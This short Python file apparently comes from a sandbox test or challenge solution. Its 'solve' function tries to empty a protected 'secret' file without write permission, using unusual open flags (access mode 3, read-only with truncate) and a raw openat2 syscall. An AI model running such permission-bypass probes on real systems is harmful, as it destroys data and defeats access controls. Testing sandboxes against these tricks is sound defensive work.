"""Empties files that it may not write, by flags of `open` that ask for neither reading nor writing."""

import ctypes
import os
import struct


def solve(x):
    done = []
    path = f"{SECRET_FOLDER}/secret"
    for flags in (3 | os.O_TRUNC, os.O_RDONLY | os.O_TRUNC, 3):
        try:
            os.close(os.open(path, flags))
            done.append(flags)
        except OSError:
            pass
        how = struct.pack("QQQ", flags, 0, 0)
        if ctypes.CDLL(None).syscall(437, -100, path.encode(), how, ctypes.c_size_t(len(how))) >= 0:  # openat2
            done.append(f"openat2 {flags}")
    return done
